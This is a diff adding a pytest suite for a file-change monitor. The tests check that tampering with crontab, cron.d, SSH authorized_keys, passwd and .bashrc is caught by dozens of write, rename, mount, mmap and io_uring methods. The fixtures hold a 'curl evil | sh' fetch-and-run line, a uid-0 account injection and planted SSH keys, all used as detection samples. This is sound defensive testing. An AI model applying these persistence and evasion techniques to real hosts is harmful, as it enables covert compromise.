@@ -1,0 +1,678 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Every way to change a watched file, by tiny programs on real file systems."""
+
+import os
+import select
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from firedamp.events.model import UNKNOWN_PROCESS, FileChanged, ProcessKey
+from firedamp.settings import Watch, WatchedPlace
+from firedamp.sources import fanotify
+from firedamp.sources.files import VARIANTS, FileWatch, Variant
+from firedamp.sources.procfs import process_key
+
+pytestmark = [
+    pytest.mark.live,
+    pytest.mark.skipif(os.geteuid() != 0, reason="needs root"),
+]
+
+PROGRAMS = Path(__file__).parent / "programs"
+ORIGINAL = "* * * * * root true\n"
+PRELUDE = """
+import ctypes, fcntl, mmap, os, struct, subprocess, sys, time
+root, file, place, other = sys.argv[1:]
+libc = ctypes.CDLL(None, use_errno=True)
+def check(result):
+    if result < 0: raise OSError(ctypes.get_errno(), 'libc')
+    return result
+def give_name(fd, path):
+    check(libc.linkat(-100, b'/proc/self/fd/%d' % fd, -100, path.encode(), 0x400))
+def private_mounts():
+    check(libc.unshare(0x20000)); check(libc.mount(b'none', b'/', None, 0x44000, None))
+"""
+POSTLUDE = """
+print('done', flush=True)
+sys.stdin.read()
+"""
+
+
+class Scene:
+    """A root of its own with a watched crontab, and a watch over it."""
+
+    def __init__(self, root: Path, variants: tuple[Variant, ...] = VARIANTS) -> None:
+        self.root = root
+        self.file = root / "etc/crontab"
+        self.place = root / "etc/cron.d"
+        self.other = root / "other"
+        for directory in (self.place, self.other, root / "home/bob", root / "root"):
+            directory.mkdir(parents=True)
+        self.file.write_text(ORIGINAL)
+        (root / "etc/passwd").write_text("bob:x:1001:1001::/home/bob:/bin/sh\n")
+        (self.other / "payload").write_text("curl evil | sh\n")
+        (self.place / "known").write_text("known\n")
+        os.link(self.place / "known", self.other / "known-too")
+        self.watch = FileWatch(Watch(roots=(str(root),)), variants=variants)
+        self._running: list[subprocess.Popen[bytes]] = []
+
+    def run(self, *command: str, user: int = 0) -> ProcessKey:
+        """Run a program that says when it is done and then waits; who it was."""
+        process = subprocess.Popen(
+            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, user=user, group=user
+        )
+        self._running.append(process)
+        assert process.stdout is not None
+        if process.stdout.readline() != b"done\n" and process.wait() == 77:
+            pytest.skip("the kernel does not offer that call")
+        key = process_key(process.pid)
+        assert key is not None, f"{command} failed"
+        return key
+
+    def does(self, code: str, user: int = 0) -> ProcessKey:
+        """Run a few lines of Python in a process that stays; who it was."""
+        paths = map(str, (self.root, self.file, self.place, self.other))
+        return self.run(sys.executable, "-IS", "-c", PRELUDE + code + POSTLUDE, *paths, user=user)
+
+    def ends(self) -> None:
+        """Let the programs end, and wait for that."""
+        for process in self._running:
+            process.communicate()
+        self._running.clear()
+
+    def told(self) -> list[FileChanged]:
+        """All that the watch has to tell."""
+        told: list[FileChanged] = []
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline:
+            (fd,) = self.watch.filenos()
+            if not select.select([fd], [], [], 0.1)[0]:
+                break
+            told += self.watch.read()
+        return told
+
+    def operations(self) -> list[tuple[str, str]]:
+        """What was done to which path below the root."""
+        return [(event.operation, self.below(event.path)) for event in self.told()]
+
+    def below(self, path: str) -> str:
+        return os.path.relpath(path, self.root) if path else ""
+
+    def close(self) -> None:
+        self.ends()
+        self.watch.close()
+
+
+@pytest.fixture(params=["/var/tmp", "/dev/shm"], ids=["disk", "tmpfs"])
+def directory(request) -> Iterator[Path]:
+    """
+    A directory of our own on a disk and in memory: file systems report changes differently.
+    """
+    path = Path(tempfile.mkdtemp(prefix="firedamp-", dir=request.param))
+    yield path
+    subprocess.run(["chattr", "-R", "-ia", str(path)], capture_output=True, check=False)
+    shutil.rmtree(path)
+
+
+@pytest.fixture
+def scene(directory) -> Iterator[Scene]:
+    """
+    A small host of our own.
+    """
+    scene = Scene(directory)
+    yield scene
+    scene.close()
+
+
+WRITES = {
+    "append": ("open(file, 'a').write('new\\n')", ("new",)),
+    "rewrite": ("open(file, 'w').write('new\\n')", ("new",)),
+    "pwrite": ("os.pwrite(os.open(file, os.O_RDWR), b'new\\n', 0)", ("new", "* * * root true")),
+    "O_TRUNC": ("os.close(os.open(file, os.O_WRONLY | os.O_TRUNC))", ()),
+    "truncate": ("os.truncate(file, 0)", ()),
+    "ftruncate": ("os.ftruncate(os.open(file, os.O_WRONLY), 3)", ("* *",)),
+    "fallocate": ("os.posix_fallocate(os.open(file, os.O_RDWR), 0, 100)", ()),
+    "copy_file_range": (
+        (
+            "a = os.open(other + '/payload', 0); b = os.open(file, os.O_RDWR)\n"
+            "os.copy_file_range(a, b, 15)"
+        ),
+        ("curl evil | sh", "true"),
+    ),
+    "sendfile": (
+        (
+            "a = os.open(other + '/payload', 0); b = os.open(file, os.O_RDWR)\n"
+            "os.sendfile(b, a, 0, 15)"
+        ),
+        ("curl evil | sh", "true"),
+    ),
+    "splice": (
+        (
+            "r, w = os.pipe(); os.write(w, b'new\\n'); b = os.open(file, os.O_RDWR)\n"
+            "os.splice(r, b, 4)"
+        ),
+        ("new", "* * * root true"),
+    ),
+    "mmap store, unmapped": (
+        (
+            "fd = os.open(file, os.O_RDWR); m = mmap.mmap(fd, 4); os.close(fd)\n"
+            "m[0:4] = b'new\\n'\nm.close()"
+        ),
+        ("new", "* * * root true"),
+    ),
+    "through a descriptor in /proc": (
+        "fd = os.open(file, os.O_RDONLY)\nopen(f'/proc/self/fd/{fd}', 'a').write('new\\n')",
+        ("new",),
+    ),
+    "through /proc/PID/root": (
+        "open(f'/proc/{os.getpid()}/root{file}', 'a').write('new\\n')",
+        ("new",),
+    ),
+    "through a symbolic link": (
+        "os.symlink(file, other + '/s'); open(other + '/s', 'a').write('new\\n')",
+        ("new",),
+    ),
+    "bind mount": (
+        (
+            "private_mounts(); check(libc.mount(place.encode() + b'/..', other.encode(), None, "
+            "0x1000, None))\nopen(other + '/crontab', 'a').write('new\\n')"
+        ),
+        ("new",),
+    ),
+    "bind mount of the file alone": (
+        (
+            "private_mounts(); a, b = file.encode(), (other + '/payload').encode()\n"
+            "check(libc.mount(a, b, None, 0x1000, None))\nopen(other + '/payload', 'a').write('new\\n')"
+        ),
+        ("new",),
+    ),
+    "mount namespace": ("private_mounts(); open(file, 'a').write('new\\n')", ("new",)),
+    "chroot": ("os.chroot(root); open('/etc/crontab', 'a').write('new\\n')", ("new",)),
+}
+
+
+@pytest.mark.parametrize("way", WRITES)
+def test_writing_is_told_with_its_process(scene, way):
+    """
+    However the bytes get into a watched file, one write of that file is told, and by whom.
+    """
+    code, added = WRITES[way]
+    who = scene.does(code)
+
+    [event] = scene.told()
+
+    assert (event.operation, event.path, event.place) == ("write", str(scene.file), "cron")
+    assert (event.process, event.uid) == (who, 0)
+    assert (event.inode, event.added_lines) == (scene.file.stat().st_ino, added)
+
+
+def test_writing_by_io_uring_is_told_with_its_process(scene, tmp_path):
+    """
+    No system call writes here, so that no hook of one could have seen it.
+    """
+    program = tmp_path / "io_uring_write"
+    built = subprocess.run(["cc", "-o", program, PROGRAMS / "io_uring_write.c"], check=False)
+    if built.returncode:
+        pytest.skip("needs a C compiler and the kernel's headers for programs")
+
+    who = scene.run(str(program), str(scene.file))
+    [event] = scene.told()
+
+    assert (event.operation, event.path) == ("write", str(scene.file))
+    assert (event.process, event.added_lines) == (who, ("by io_uring",))
+
+
+def test_writing_through_a_hard_link_elsewhere_tells_the_watched_path(scene):
+    """
+    The other name lies where nobody watches; the inode is what counts.
+    """
+    who = scene.does("open(other + '/known-too', 'a').write('new\\n')")
+
+    [event] = scene.told()
+
+    assert (event.operation, event.path) == ("write", str(scene.place / "known"))
+    assert (event.process, event.added_lines) == (who, ("new",))
+
+
+NAMES = {
+    "create": ("open(place + '/x', 'w').write('evil\\n')", [("create", "etc/cron.d/x")]),
+    "mkdir": ("os.mkdir(place + '/x')", [("create", "etc/cron.d/x")]),
+    "mkfifo": ("os.mkfifo(place + '/x')", [("create", "etc/cron.d/x")]),
+    "rename in": ("os.rename(other + '/payload', place + '/x')", [("rename", "etc/cron.d/x")]),
+    "rename within": (
+        "os.rename(place + '/known', place + '/x')",
+        [("rename", "etc/cron.d/x")],
+    ),
+    "rename over": ("os.rename(other + '/payload', file)", [("rename", "etc/crontab")]),
+    "rename out": ("os.rename(place + '/known', other + '/x')", [("delete", "etc/cron.d/known")]),
+    "link": ("os.link(other + '/payload', place + '/x')", [("link", "etc/cron.d/x")]),
+    "linkat of O_TMPFILE": (
+        (
+            "fd = os.open(root, os.O_TMPFILE | os.O_RDWR); os.write(fd, b'evil\\n')\n"
+            "give_name(fd, place + '/x')"
+        ),
+        [("create", "etc/cron.d/x")],
+    ),
+    "linkat of O_TMPFILE made in the place": (
+        (
+            "fd = os.open(place, os.O_TMPFILE | os.O_RDWR); os.write(fd, b'evil\\n')\n"
+            "time.sleep(0.2)\n"
+            "give_name(fd, place + '/x')"
+        ),
+        [("create", "etc/cron.d/x")],
+    ),
+    "a watched file gets a name elsewhere": (
+        "os.link(file, other + '/x')",
+        [("link", "etc/crontab")],
+    ),
+    "symlink": ("os.symlink('/payload', place + '/x')", [("link", "etc/cron.d/x")]),
+    "symlink swapped in": (
+        "os.symlink('/payload', other + '/x'); os.rename(other + '/x', file)",
+        [("rename", "etc/crontab")],
+    ),
+    "exchange": (
+        "check(libc.renameat2(-100, (other + '/payload').encode(), -100, file.encode(), 2))",
+        [("rename", "etc/crontab")],
+    ),
+    "unlink": ("os.unlink(file)", [("delete", "etc/crontab")]),
+    "open without writing": ("os.close(os.open(file, os.O_RDWR))", [("open", "etc/crontab")]),
+    "chmod": ("os.chmod(file, 0o600)", [("attributes", "etc/crontab")]),
+    "chown": ("os.chown(file, 1, 1)", [("attributes", "etc/crontab")]),
+    "utime": ("os.utime(file, (1, 1))", [("attributes", "etc/crontab")]),
+    "setxattr": ("os.setxattr(file, 'trusted.x', b'1')", [("attributes", "etc/crontab")]),
+    "chmod of a directory": ("os.chmod(place, 0o700)", [("attributes", "etc/cron.d")]),
+    "reading": ("open(file).read(); os.listdir(place); os.stat(file)", []),
+    "writing elsewhere": (
+        "open(other + '/payload', 'a').write('x'); open(root + '/etc/x', 'w').write('x')",
+        [],
+    ),
+}
+
+
+@pytest.mark.parametrize("way", NAMES)
+def test_a_change_is_told_once_and_with_its_process(scene, way):
+    """
+    One act, one event of the right kind, about the watched path; and none for what is not watched.
+    """
+    code, expected = NAMES[way]
+    who = scene.does(code)
+
+    told = scene.told()
+
+    assert [(event.operation, scene.below(event.path)) for event in told] == expected
+    assert {event.process for event in told} <= {who}
+    assert all(event.place == "cron" for event in told)
+
+
+@pytest.mark.parametrize("variant", VARIANTS, ids=lambda v: v.hook)
+def test_each_variant_sees_the_common_ways(directory, variant):
+    """
+    Older kernels say less: where a rename came from, or surely who it was.
+    """
+    scene = Scene(directory, (variant,))
+    who = scene.does(
+        "open(file, 'a').write('new\\n'); os.chmod(file, 0o600)\n"
+        "open(place + '/x', 'w').write('evil\\n')\n"
+        "os.rename(place + '/x', place + '/y')\n"
+        "os.unlink(place + '/y')\n"
+        "os.rename(other + '/payload', file)"
+    )
+    told = scene.told()
+    scene.close()
+
+    expected = [
+        ("write", "etc/crontab"),
+        ("create", "etc/cron.d/x"),
+        ("rename", "etc/cron.d/y"),
+        ("delete", "etc/cron.d/y"),
+        ("rename", "etc/crontab"),
+        ("attributes", "etc/crontab"),
+    ]
+    if not variant.names & fanotify.RENAME:  # the name it had and the one it got come apart
+        expected.append(("delete", "etc/cron.d/x"))
+    assert sorted((e.operation, scene.below(e.path)) for e in told) == sorted(expected)
+    assert {event.process for event in told} == {who}
+    assert scene.watch.hook == variant.hook
+
+
+def test_a_process_that_is_gone_is_told_by_its_pid(scene):
+    """
+    Most writers end before anyone looks: the PID alone is still a lead to who it was.
+    """
+    who = scene.does("open(file, 'a').write('new\\n')")
+    scene.ends()
+
+    [event] = scene.told()
+
+    assert event.process == ProcessKey(who.pid, 0)
+
+
+def test_the_user_is_the_real_one(scene):
+    """
+    The user who did it is told, not the owner of the file.
+    """
+    scene.file.chmod(0o666)
+    scene.told()
+    scene.root.chmod(0o755)
+    scene.does("open(file, 'a').write('new\\n')", user=1001)
+
+    [event] = scene.told()
+
+    assert (event.operation, event.uid) == ("write", 1001)
+
+
+def test_where_a_file_was_before_a_rename_is_told(scene):
+    """
+    What sed -i and crontab(1) do is recognisable: a new file takes the place of the old.
+    """
+    subprocess.run(["sed", "-i", "s/true/evil/", scene.file], check=True)
+
+    [event] = scene.told()
+
+    assert event.operation == "rename"
+    assert Path(event.old_path).parent == scene.file.parent
+    assert event.added_lines == ("* * * * * root evil",)
+
+
+def test_a_replaced_file_goes_on_being_watched(scene):
+    """
+    The mark is on the inode: the new one needs its own, also for writes from elsewhere.
+    """
+    scene.does("os.link(other + '/payload', other + '/p'); os.rename(other + '/payload', file)")
+    assert scene.operations() == [("rename", "etc/crontab")]
+
+    scene.does("open(other + '/p', 'a').write('more\\n')")
+    [event] = scene.told()
+
+    assert (event.operation, event.path) == ("write", str(scene.file))
+    assert event.added_lines == ("more",)
+
+
+def test_a_place_that_comes_to_be_later_is_watched(scene):
+    """
+    `~/.ssh` did not exist; what is put into it, however soon, is told.
+    """
+    keys = scene.root / "home/bob/.ssh/authorized_keys"
+    scene.does(
+        "os.makedirs(root + '/home/bob/.ssh')\n"
+        "open(root + '/home/bob/.ssh/authorized_keys', 'w').write('ssh-rsa AAA\\n')"
+    )
+    [created] = scene.told()
+
+    scene.does("open(root + '/home/bob/.ssh/authorized_keys', 'a').write('ssh-rsa BBB\\n')")
+    [written] = scene.told()
+
+    assert (created.operation, created.path, created.place) == ("create", str(keys), "ssh_keys")
+    assert (written.operation, written.path) == ("write", str(keys))
+    assert created.added_lines + written.added_lines == ("ssh-rsa AAA", "ssh-rsa BBB")
+
+
+def test_a_new_account_is_watched(scene):
+    """
+    Homes are learned from the passwd file, and learned again when that changes.
+    """
+    scene.does("open(root + '/etc/passwd', 'a').write('eve:x:0:0::/srv/eve:/bin/sh\\n')")
+    assert scene.operations() == [("write", "etc/passwd")]
+
+    scene.does(
+        "os.makedirs(root + '/srv/eve')\nopen(root + '/srv/eve/.profile', 'w').write('evil\\n')"
+    )
+    assert scene.operations() == [("create", "srv/eve/.profile")]
+
+
+def test_a_directory_swapped_by_rename_is_watched(scene):
+    """
+    The old directory's files are gone from the place and the new one's are news.
+    """
+    scene.does(
+        "os.mkdir(other + '/d'); open(other + '/d/evil', 'w').write('evil\\n')\n"
+        "os.rename(place, other + '/old'); os.rename(other + '/d', place)"
+    )
+    told = scene.operations()
+    scene.does("open(place + '/more', 'w').close()")
+
+    assert ("delete", "etc/cron.d/known") in told
+    assert ("create", "etc/cron.d/evil") in told
+    assert scene.operations() == [("create", "etc/cron.d/more")]
+
+
+def test_a_file_system_mounted_over_a_place_is_noticed(scene):
+    """
+    Nothing is written then, but other files are in effect; who did it is not told.
+    """
+    subprocess.run(["mount", "-t", "tmpfs", "none", scene.place], check=True)
+    try:
+        told = scene.operations()
+        scene.does("open(place + '/x', 'w').close()")
+        after = scene.operations()
+    finally:
+        scene.ends()
+        subprocess.run(["umount", scene.place], check=True)
+
+    assert ("delete", "etc/cron.d/known") in told
+    assert after == [("create", "etc/cron.d/x")]
+    assert ("create", "etc/cron.d/known") in scene.operations()
+
+
+def test_our_own_changes_are_taken_in_and_not_told(scene):
+    """
+    What a clean-up removes is not in the file any more: if it comes back, that is news.
+    """
+    scene.does("open(file, 'a').write('evil\\n')")
+    assert scene.operations() == [("write", "etc/crontab")]
+
+    scene.file.write_text(ORIGINAL)
+    (scene.place / "known").unlink()
+    assert scene.operations() == []
+
+    scene.does("open(file, 'a').write('evil\\n'); open(place + '/known', 'w').write('known\\n')")
+    assert [event.added_lines for event in scene.told()] == [("evil",), ("known",)]
+
+
+def test_an_editor_that_moves_the_old_file_away_adds_only_what_is_new(scene):
+    """
+    All lines of the new file would else pass for added, and be cleaned.
+    """
+    scene.does(
+        "os.rename(file, file + '~')\n"
+        "open(file, 'w').write(open(file + '~').read() + 'mine\\n')\nos.unlink(file + '~')"
+    )
+
+    told = scene.told()
+
+    assert [event.operation for event in told] == ["delete", "create"]
+    assert told[1].added_lines == ("mine",)
+
+
+def test_a_store_through_a_mapping_that_stays_is_told_when_another_hook_sees_it(scene):
+    """
+    The kernel's reports are silent until the mapping ends; a hook that knows the inode is not.
+    """
+    facts = scene.file.stat()
+    device = os.major(facts.st_dev) << 20 | os.minor(facts.st_dev)
+    who = scene.does(
+        "global m; fd = os.open(file, os.O_RDWR); m = mmap.mmap(fd, 0); os.close(fd)\n"
+        "m[0:5] = b'evil\\n'; m.flush()"
+    )
+    assert scene.operations() == []
+
+    [event] = scene.watch.wrote(device, facts.st_ino, who, 0)
+    scene.ends()
+
+    assert (event.operation, event.path, event.process) == ("write", str(scene.file), who)
+    assert event.added_lines[0] == "evil"
+    assert scene.operations() == []  # the close brings nothing new
+    assert scene.watch.describe(device, facts.st_ino) == (str(scene.file), "cron")
+    assert (device, facts.st_ino) in scene.watch.watched_inodes()
+
+
+def test_attributes_of_chattr_are_found_by_comparing(scene):
+    """
+    The kernel tells nobody about that ioctl; a look at the file does.
+    """
+    changed = subprocess.run(
+        ["chattr", "+i", scene.file], capture_output=True, text=True, check=False
+    )
+    if changed.returncode:
+        pytest.skip(f"this file system has no such attribute: {changed.stderr}")
+    assert scene.operations() == []
+
+    [event] = scene.watch.compare()
+
+    assert (event.operation, event.path) == ("attributes", str(scene.file))
+    assert event.process == UNKNOWN_PROCESS
+    assert scene.watch.compare() == []
+
+
+def test_a_symbolic_link_does_not_lead_out_of_a_root(directory):
+    """
+    A root may be a container's: what its links mean is below it.
+    """
+    outside = directory / "outside"
+    outside.write_text("outside\n")
+    root = directory / "root"
+    (root / "etc").mkdir(parents=True)
+    (root / "etc/crontab").symlink_to(outside)
+    watch = FileWatch(Watch(roots=(str(root),)))
+
+    facts = outside.stat()
+    keys = watch.watched_inodes()
+    watch.close()
+
+    assert facts.st_ino not in {inode for _, inode in keys}
+
+
+def test_places_of_the_administrator_come_first(directory):
+    """
+    Directories, wildcards and homes are understood in additional places as in the built-in ones.
+    """
+    (directory / "srv/app/hooks").mkdir(parents=True)
+    (directory / "root").mkdir()
+    extra = WatchedPlace(place="hooks", paths=("/srv/*/hooks/", "~/.hook"))
+    watch = FileWatch(Watch(roots=(str(directory),), extra=(extra,)))
+    subprocess.run(["touch", directory / "srv/app/hooks/x", directory / "root/.hook"], check=True)
+
+    told = watch.read()
+    watch.close()
+
+    assert [(e.operation, e.place) for e in told if e.operation == "create"] == [
+        ("create", "hooks"),
+        ("create", "hooks"),
+    ]
+
+
+def test_inodes_that_come_and_go_are_told_to_other_hooks(scene):
+    """
+    Who else watches by inode must hear of each file that takes a place or leaves it.
+    """
+    came: set[tuple[int, int]] = set()
+    went: set[tuple[int, int]] = set()
+    scene.watch.on_change = lambda new, old: (came.update(new), went.update(old))
+    known = (scene.place / "known").stat().st_ino
+    scene.does("open(place + '/x', 'w').close(); os.unlink(place + '/known')")
+
+    scene.told()
+
+    assert (scene.place / "x").stat().st_ino in {inode for _, inode in came}
+    assert known in {inode for _, inode in went}
+
+
+def test_a_file_written_in_a_loop_does_not_wake_us_for_each_write(scene):
+    """
+    Whoever writes as fast as he can costs some wake-ups a second, and his last line is told.
+    """
+    scene.does(
+        "fd = os.open(file, os.O_WRONLY | os.O_APPEND)\nend = time.monotonic() + 1\nn = 0\n"
+        "subprocess.Popen([sys.executable, '-IS', '-c', '''\n"
+        "import os, sys, time\n"
+        "fd = os.open(sys.argv[1], os.O_WRONLY | os.O_APPEND); end = time.monotonic() + 1; n = 0\n"
+        "while time.monotonic() < end: n += os.write(fd, b'.') \n"
+        "os.write(fd, b'\\\\nlast\\\\n')\n''', file])"
+    )
+    (fd,) = scene.watch.filenos()
+    reads, told = 0, list[FileChanged]()
+    while "last" not in {line for event in told for line in event.added_lines}:
+        assert select.select([fd], [], [], 5)[0]
+        told += scene.watch.read()
+        reads += 1
+
+    assert reads < 100
+
+
+FLOOD = 20_000
+
+
+def flood(scene: Scene, directory: Path) -> None:
+    """More names than the queue holds, while nobody reads."""
+    code = f"for n in range({FLOOD}): os.close(os.open(f'{directory}/{{n}}', os.O_CREAT))"
+    scene.does(code)
+    scene.ends()
+
+
+@pytest.mark.parametrize("directory", ["/dev/shm"], indirect=True)
+def test_a_queue_that_overflows_is_a_loss_and_what_it_hid_is_found(scene):
+    """
+    Who it was is lost; what there is now is not.
+    """
+    flood(scene, scene.place)
+    (scene.place / "0").stat()
+    scene.does("open(file, 'a').write('hidden\\n')")
+
+    told = scene.told()
+    [loss] = scene.watch.losses()
+
+    created = {event.path for event in told if event.operation == "create"}
+    assert len(created) == FLOOD
+    assert (loss.kind, loss.count) == ("file", 1)
+    assert [e.added_lines for e in told if e.path == str(scene.file)] == [("hidden",)]
+    assert scene.watch.losses() == []
+
+
+@pytest.mark.parametrize("directory", ["/dev/shm"], indirect=True)
+def test_a_busy_home_directory_pushes_out_nothing(scene):
+    """
+    Names that nobody watches fill a queue of their own, and what they hid there is found.
+    """
+    flood(scene, scene.root / "home/bob")
+    scene.does(
+        "open(root + '/home/bob/.bashrc', 'w').write('evil\\n'); open(file, 'a').write('new\\n')"
+    )
+
+    told = scene.told()
+
+    assert scene.watch.losses() == []
+    assert {(e.operation, scene.below(e.path)) for e in told} == {
+        ("write", "etc/crontab"),
+        ("create", "home/bob/.bashrc"),
+    }
+
+
+def test_closing_frees_every_descriptor(directory):
+    """
+    The service opens and closes watches as its settings change.
+    """
+    before = len(os.listdir("/proc/self/fd"))
+    Scene(directory).close()
+
+    assert len(os.listdir("/proc/self/fd")) == before
+
+
+def test_pidfds_of_records_are_closed(scene):
+    """
+    Each record of a living process holds a descriptor, told or not.
+    """
+    scene.does("for n in range(50): open(place + f'/{n}', 'w').close()")
+    scene.watch.read()
+    before = len(os.listdir("/proc/self/fd"))
+    scene.does("for n in range(50): os.unlink(place + f'/{n}')")
+    running = 2  # its standard streams
+
+    scene.told()
+
+    assert len(os.listdir("/proc/self/fd")) == before + running
